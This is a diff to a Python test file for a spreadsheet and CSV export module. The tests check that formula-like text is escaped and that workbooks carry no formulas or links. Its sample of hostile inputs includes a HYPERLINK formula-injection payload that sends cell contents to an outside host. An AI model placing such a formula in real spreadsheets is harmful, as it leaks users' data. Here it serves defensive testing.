@@ -14,7 +14,7 @@ from hypothesis import strategies as st
 from python_calamine import CalamineWorkbook
 
 from barometer import export
-from barometer.export import FORMULA_STARTS, csv_bytes, xlsx_bytes
+from barometer.export import FORMULA_STARTS, Sheet, csv_bytes, workbook_bytes
 
 HOSTILE = (
     '=HYPERLINK("http://example.org?x="&A1,"Click")',
@@ -34,6 +34,11 @@ def written(data: bytes) -> list[list[str]]:
     return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
 
 
+def book_of(frame: pd.DataFrame, name: str) -> bytes:
+    """The frame as a workbook of one sheet."""
+    return workbook_bytes([Sheet(name, frame)])
+
+
 def cells(data: bytes) -> list[list[object]]:
     """The rows of a workbook's first sheet."""
     return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
@@ -43,13 +48,13 @@ def cells(data: bytes) -> list[list[object]]:
 def test_export_text_that_looks_like_a_formula_is_text(cell: str) -> None:
     frame = pd.DataFrame({cell: [cell]})
     assert written(csv_bytes(frame)) == [[f"'{cell}"], [f"'{cell}"]]
-    first = [str(row[0]).replace("_x000D_", "\r") for row in cells(xlsx_bytes(frame, "Problems"))]
+    first = [str(row[0]).replace("_x000D_", "\r") for row in cells(book_of(frame, "Problems"))]
     assert [value.startswith("'") for value in first] == [True, True]
 
 
 def test_export_workbook_holds_no_formula_and_no_link() -> None:
     frame = pd.DataFrame({"value": [*HOSTILE, "http://example.org", "mailto:a@b.example"]})
-    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(frame, "Problems"))) as book:
+    with zipfile.ZipFile(io.BytesIO(book_of(frame, "Problems"))) as book:
         sheet = book.read("xl/worksheets/sheet1.xml")
         assert b"<f>" not in sheet
         assert b"<hyperlink" not in sheet
@@ -71,7 +76,7 @@ def test_export_numbers_days_and_missing_stay_what_they_are() -> None:
         ["-4.5", "-3", "True", "2025-03-04", "2025-03-04", ""],
         ["", "", "False", "2025-03-04 10:05:00", "", ""],
     ]
-    first, second = cells(xlsx_bytes(frame, "Problems"))[1:]
+    first, second = cells(book_of(frame, "Problems"))[1:]
     assert first[:3] == [-4.5, -3.0, True]
     assert str(first[4]).startswith("2025-03-04")
     assert second[:2] == ["", ""]
@@ -95,7 +100,7 @@ def test_export_csv_gives_back_every_text_but_its_apostrophe(texts: list[str]) -
 @given(TEXTS, TEXTS)
 @example("", "0" * 22 + "\U00010000" * 5)
 def test_export_workbook_takes_any_text_and_any_name(text: str, name: str) -> None:
-    first = cells(xlsx_bytes(pd.DataFrame({"x": [text, "end"]}), name))
+    first = cells(book_of(pd.DataFrame({"x": [text, "end"]}), name))
     assert first[-1] == ["end"]
 
 
@@ -103,11 +108,11 @@ def test_export_infinite_numbers_and_ancient_days_are_written_as_text() -> None:
     frame = pd.DataFrame(
         {"x": [float("inf"), float("-inf")], "day": pd.to_datetime(["1789-07-14"] * 2)}
     )
-    assert cells(xlsx_bytes(frame, "x"))[1:] == [["inf", "1789-07-14"], ["'-inf", "1789-07-14"]]
+    assert cells(book_of(frame, "x"))[1:] == [["inf", "1789-07-14"], ["'-inf", "1789-07-14"]]
 
 
 def test_export_more_rows_than_a_sheet_holds(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(export, "SHEET_ROWS", 3)
-    assert len(cells(xlsx_bytes(pd.DataFrame({"x": [1, 2]}), "x"))) == 3
+    assert len(cells(book_of(pd.DataFrame({"x": [1, 2]}), "x"))) == 3
     with pytest.raises(ValueError, match="3 rows"):
-        xlsx_bytes(pd.DataFrame({"x": [1, 2, 3]}), "x")
+        book_of(pd.DataFrame({"x": [1, 2, 3]}), "x")
